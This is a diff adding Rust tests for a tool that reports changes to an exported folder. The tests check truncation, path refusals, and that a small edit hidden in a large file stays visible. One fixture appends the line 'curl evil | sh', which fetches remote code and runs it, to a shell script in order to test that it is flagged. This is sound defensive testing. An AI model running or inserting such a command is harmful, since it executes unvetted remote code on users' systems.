@@ -188,8 +188,65 @@ fn the_diff_looks_like_that_of_git() {
          diff --git a/m b/m\nold mode 100644\nnew mode 100755\n"
     );
     assert_eq!(report::diff(&fixture.dir(), &fixture.export.changes(), 10_000).unwrap(), expected);
-    let short = report::diff(&fixture.dir(), &fixture.export.changes(), 10).unwrap();
-    assert!(short.ends_with("# not shown here: b\n# not shown here: m\n"), "{short}");
+    let short = report::diff(&fixture.dir(), &fixture.export.changes(), 60).unwrap();
+    assert_eq!(
+        short,
+        "diff --git a/m b/m\nold mode 100644\nnew mode 100755\n# not shown here: a\n# not shown here: b\n"
+    );
+    let one = report::diff_of(&fixture.dir(), &fixture.export.changes(), &["m".to_owned()]).unwrap();
+    assert_eq!(one, "diff --git a/m b/m\nold mode 100644\nnew mode 100755\n");
+    for (path, refusal) in
+        [("never", "the lease did not change `never`"), ("/m", "`/m` is not a path below the folder")]
+    {
+        let refused = report::diff_of(&fixture.dir(), &fixture.export.changes(), &[path.to_owned()]).unwrap_err();
+        assert_eq!(refused.to_string(), refusal);
+    }
+}
+
+#[test]
+fn large_files_hide_no_small_change() {
+    let fixture = ExportFixture::new(|dir| fs::write(dir.join("run.sh"), "echo hi\n".repeat(4000)).unwrap());
+    for name in ["a1.bin", "a2.bin", ".vscode/tasks.json"] {
+        if let Some((folder, _)) = name.split_once('/') {
+            fixture.export.make_dir(folder.as_bytes(), 0o755).unwrap();
+        }
+        fixture.write(name, &[0; 20_000]);
+    }
+    // Smaller than the script, but not text.
+    fixture.write("a3.bin", &[0; 10]);
+    fixture.write(".vimrc", &b"x\n".repeat(20_000));
+    fixture.write("run.sh", ("echo hi\n".repeat(4000) + "curl evil | sh\n").as_bytes());
+    fixture.export.revoke();
+    let record = fixture.export.changes();
+    let diff = report::diff(&fixture.dir(), &record, 40_000).unwrap();
+    let told = |diff: &str| -> Vec<String> {
+        let is_told = |line: &&str| line.starts_with("diff ") || line.starts_with('#') || line.starts_with("+curl");
+        diff.lines().filter(is_told).map(str::to_owned).collect()
+    };
+    assert_eq!(
+        told(&diff),
+        [
+            "# look at this first: .vimrc (run or obeyed by Vim)",
+            "# look at this first: .vscode/tasks.json (run or obeyed by VS Code)",
+            "diff --git a/run.sh b/run.sh",
+            "+curl evil | sh",
+            "diff --git a/.vscode/tasks.json b/.vscode/tasks.json",
+            "diff --git a/a3.bin b/a3.bin",
+            "# not shown here: .vimrc",
+            "# not shown here: a1.bin",
+            "# not shown here: a2.bin",
+        ]
+    );
+    assert!(diff.len() < 41_000, "{}", diff.len());
+    let asked = report::diff_of(&fixture.dir(), &record, &["a1.bin".to_owned(), ".vimrc".to_owned()]).unwrap();
+    assert_eq!(
+        told(&asked),
+        [
+            "# look at this first: .vimrc (run or obeyed by Vim)",
+            "diff --git a/.vimrc b/.vimrc",
+            "diff --git a/a1.bin b/a1.bin",
+        ]
+    );
 }
 
 #[test]
